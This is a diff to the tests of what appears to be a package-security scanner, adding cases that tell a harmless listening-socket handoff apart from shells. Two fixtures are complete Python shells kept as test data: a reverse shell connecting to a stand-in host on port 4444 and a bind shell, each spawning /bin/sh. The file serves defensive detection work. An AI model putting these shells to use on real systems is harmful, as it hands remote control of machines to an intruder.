@@ -14,7 +14,9 @@ malicious twin that must stay high:
   (``with (root / "about.py").open() as f: exec(f.read(), about)``) runs a local file, as
   ``open(path)`` does;
 * ``setup.py`` asking a library's build-configuration tool on PATH for compiler flags
-  (``odbc_config --cflags``, ``pg_config --includedir``) runs a build tool.
+  (``odbc_config --cflags``, ``pg_config --includedir``) runs a build tool;
+* a server handing the socket it binds (and never connects) to standard input is passing on
+  its listening socket, not a reverse shell.
 """
 
 from __future__ import annotations
@@ -259,3 +261,61 @@ def test_a_config_tool_chained_to_another_command_or_shipped_in_the_package_stay
         res = _scan_config(tmp_path / str(i), command)
         assert "place.install_time" in _ids(res), command
         assert res.risk.level in HIGH, command
+
+
+LISTENING = b"""import os
+import socket
+import subprocess
+
+def serve_on_stdin():
+    sock = socket.socket(socket.AF_INET)
+    sock.bind(("127.0.0.1", 0))
+    sock.listen()
+    saved = os.dup(0)
+    os.dup2(sock.fileno(), 0)
+    try:
+        subprocess.run(["gizmo-worker", "--fd", "0"], check=True)
+    finally:
+        os.dup2(saved, 0)
+"""
+
+REVERSE = b"""import os
+import pty
+import socket
+
+def shell():
+    s = socket.socket(socket.AF_INET)
+    s.connect(("192.0.2.4", 4444))
+    os.dup2(s.fileno(), 0)
+    os.dup2(s.fileno(), 1)
+    pty.spawn("/bin/sh")
+"""
+
+BIND_SHELL = b"""import os
+import pty
+import socket
+
+def shell():
+    s = socket.socket(socket.AF_INET)
+    s.bind(("0.0.0.0", 4444))
+    s.listen(1)
+    conn, _ = s.accept()
+    os.dup2(conn.fileno(), 0)
+    os.dup2(conn.fileno(), 1)
+    pty.spawn("/bin/sh")
+"""
+
+
+def test_a_listening_socket_handed_to_stdin_is_no_reverse_shell(tmp_path):
+    res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/serve.py": LISTENING})
+    assert any(h.capability == "net.reverse_shell" for h in res.findings)  # shown
+    assert "chain.reverse_shell" not in _ids(res)
+    assert res.risk.level not in HIGH
+
+
+def test_a_connected_or_accepted_socket_on_stdin_stays_a_reverse_shell(tmp_path):
+    for i, code in enumerate((REVERSE, BIND_SHELL)):
+        (tmp_path / str(i)).mkdir()
+        res = _scan(tmp_path / str(i), {"gizmo/__init__.py": b"", "gizmo/serve.py": code})
+        assert "chain.reverse_shell" in _ids(res)
+        assert res.risk.level == "critical"
